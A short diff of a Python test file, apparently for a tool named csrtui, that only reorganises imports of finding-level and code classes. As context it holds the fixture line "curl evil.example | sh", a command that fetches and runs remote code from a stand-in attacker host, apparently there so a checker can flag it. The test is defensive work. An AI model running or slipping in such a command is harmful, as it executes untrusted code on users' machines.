@@ -4,8 +4,8 @@ from __future__ import annotations
 
 import pytest
 
-from csrtui.core.doctor.ailment import Code
-from csrtui.core.finding import Level
+from csrtui.core.base.finding import Level
+from csrtui.core.doctor.finding_codes import Code
 from csrtui.core.host_finding import read_finding
 
 COMMAND = "curl evil.example | sh"
